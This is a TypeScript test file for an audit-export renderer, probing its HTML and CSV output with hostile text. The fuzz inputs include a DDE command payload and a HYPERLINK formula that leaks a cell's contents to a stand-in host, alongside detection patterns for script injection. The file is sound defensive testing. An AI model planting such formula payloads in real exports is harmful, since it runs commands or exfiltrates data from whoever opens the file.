import fc from "fast-check";
import { describe, test } from "vitest";
import type { Bundle } from "../../schemas/bundle.ts";
import type { AccessView } from "../../schemas/evidence-list.ts";
import { accountOf } from "../../scripts/holdpoint/evidence/account.ts";
import { accessTable, headingsOf, rowsOf, tableNames } from "../../scripts/holdpoint/evidence/tables.ts";
import { csvRow } from "../../scripts/holdpoint/render/csv.ts";
import {
  accessHead,
  accessRow,
  actionSection,
  pageHead,
  pageTail,
} from "../../scripts/holdpoint/render/evidence-page.ts";
import { hostileTexts } from "../support/hostile-texts.ts";
import { cellsAt, parseCsv } from "../support/tables.ts";
import { bundleSaying } from "../support/told-bundle.ts";

/** What an auditor opens: whatever somebody wrote into an action, it stays text. */

const seed = Date.now() % 2 ** 31;
/** What a reader does not see, or sees in another place; the page's own line breaks apart. */
const hidden = /(?!\n)[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
const hasHidden = (text: string): boolean => hidden.test(text);
const accessSaying = (text: string): AccessView => ({
  index: 1,
  at: "2026-01-31T12:00:00.000Z",
  by: { kind: "agent", id: text },
  route: text,
  action: text,
  asked: text,
  outcome: "refused",
});

function pageSaying(text: string): string {
  const cover = {
    workspace: text,
    exportedAt: "2026-01-31T12:00:00.000Z",
    since: text,
    until: text,
    type: text,
    actions: 1,
    origin: text,
    size: 2,
    root: text,
  };
  const section = actionSection(accountOf(bundleSaying(text)));
  return [pageHead(cover), section, accessHead, accessRow(accessSaying(text)), pageTail].join("");
}

/** Everything a browser would take for markup, in order; line breaks apart, of which a text may have any number. */
const tagsOf = (page: string): string[] => (page.match(/<[^>]*>?/gu) ?? []).filter((tag) => tag !== "<br>");
const withoutIds = (tags: readonly string[]): string[] => tags.map((tag) => tag.replace(/ id="[^"]*"/u, ""));

describe("T4 T24 the page of an export", () => {
  const plain = withoutIds(tagsOf(pageSaying("plain")));

  test("has the same markup whatever stands in the action", ({ expect }) => {
    expect(hostileTexts.length).toBeGreaterThan(200);
    for (const text of hostileTexts) expect(withoutIds(tagsOf(pageSaying(text)))).toEqual(plain);
  });

  test("shows what cannot be seen by its name", ({ expect }) => {
    for (const text of hostileTexts) {
      const page = pageSaying(text);
      expect(hasHidden(page), JSON.stringify(text)).toBe(false);
    }
    expect(pageSaying("\u202Egpj.exe")).toContain("[U+202E]gpj.exe");
  });

  test("runs nothing and fetches nothing", ({ expect }) => {
    const page = pageSaying("plain");
    expect(page).toContain("default-src 'none'");
    expect(page).not.toMatch(/<script|<img|<link|<iframe|<form|\bon\w+=|javascript:|url\(/iu);
    expect(page).not.toMatch(/(?:src|href)=/u);
  });

  test("tells the votes, what was shown, what is gone and what contradicts", ({ expect }) => {
    const page = pageSaying("some words");
    for (const words of [
      "some words",
      "it counted",
      "Agent says (unverified)",
      "never stored",
      "let go of at",
    ]) {
      expect(page).toContain(words);
    }
    expect(page).toContain("The log holds a contradiction");
    expect(page).toContain("[erased]");
  });

  test("says of an action whose record is gone that it was there", ({ expect }) => {
    const tombstone: Bundle = { ...bundleSaying("x"), entries: [], shown: [], redactions: [] };
    const page = actionSection(accountOf(tombstone));
    expect(page).toContain("The record itself is gone");
    expect(page).not.toContain("undefined");
  });

  test("and the check would see markup that got through", ({ expect }) => {
    const page = pageSaying("plain").replace("plain", "<b>plain</b>");
    expect(withoutIds(tagsOf(page))).not.toEqual(plain);
  });
});

/** What a spreadsheet reckons with; whatever it may skip before, it is the first character that counts. */
const isFormula = (cell: string): boolean =>
  /^[\s\p{Cc}\p{Cf}\p{Z}"]*[=+\-@\u2212\uFE62\uFE63\uFE66\uFE6B\uFF0B\uFF0D\uFF1D\uFF20]/u.test(cell);
const separators = [",", ";", "\t", "|"] as const;

const pieces = fc.constantFrom(
  ..."=+-@,;|\"'\t\r\n a1\u0000\uFEFF\u200B\u00A0\u202E\uFF1D\uFF0B\uFF0D\uFF20\uFE66\u2212".split(""),
  "cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"ok")',
  "\r\n=1+1",
  ";=1+1",
  '";=1+1;"',
);
const hostileCell = fc.oneof(
  fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join("")),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.constantFrom(...hostileTexts),
);
const hostileRows = fc.array(fc.array(hostileCell, { minLength: 1, maxLength: 5 }), {
  minLength: 1,
  maxLength: 5,
});

describe("T24 the tables of an export", () => {
  test(`hold every cell as it was, but for apostrophes that make it text (seed ${seed})`, ({ expect }) => {
    fc.assert(
      fc.property(hostileRows, (rows) => {
        const found = parseCsv(rows.map(csvRow).join(""));
        const bare = (cell: string): string => cell.replaceAll("'", "");
        expect(found.map((row) => row.map(bare))).toEqual(rows.map((row) => row.map(bare)));
      }),
      { seed, numRuns: 3_000 },
    );
  });

  test(`have no formula in them, by whatever a list is separated (seed ${seed})`, ({ expect }) => {
    fc.assert(
      fc.property(hostileRows, (rows) => {
        const text = rows.map(csvRow).join("");
        for (const separator of separators) {
          const found = cellsAt(separator, text).filter(isFormula);
          expect(found, `separated by ${JSON.stringify(separator)}`).toEqual([]);
        }
      }),
      { seed, numRuns: 3_000 },
    );
  });

  test("would have some if nothing were done about it", ({ expect }) => {
    expect(cellsAt(",", '"x","=1+1"\r\n').filter(isFormula)).toEqual(["=1+1"]);
    expect(cellsAt(";", '"a","x;=1+1"\r\n').filter(isFormula)).toEqual(['=1+1"']);
    expect(cellsAt(";", csvRow(["a", "x;=1+1"])).filter(isFormula)).toEqual([]);
  });

  test.for([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t'=1"],
    ["\r=1", "'\r'=1"],
    ["\uFF1D1", "'\uFF1D1"],
    ["\uFF20SUM", "'\uFF20SUM"],
    [" =1", "' =1"],
    ["plain", "plain"],
    ["a-b", "a-b"],
    ["", ""],
  ] as const)("make %j to %j", ([cell, wanted], { expect }) => {
    expect(parseCsv(csvRow([cell]))).toEqual([[wanted]]);
  });

  test("leave numbers as numbers", ({ expect }) => {
    expect(csvRow([-1, null, true])).toBe('"-1","","true"\r\n');
  });

  test("have as many cells in every row as headings, whatever stands in an action", ({ expect }) => {
    for (const text of hostileTexts) {
      const account = accountOf(bundleSaying(text));
      for (const name of tableNames) {
        const rows = parseCsv(headingsOf(name) + rowsOf(name, account));
        expect(new Set(rows.map(({ length }) => length)).size, name).toBe(1);
        expect(rows.flat().filter(isFormula)).toEqual([]);
        expect(rows.flat().filter(hasHidden)).toEqual([]);
      }
      const [row = []] = parseCsv(accessTable.row(accessSaying(text)));
      expect(row).toHaveLength(accessTable.headings.length);
    }
  });
});
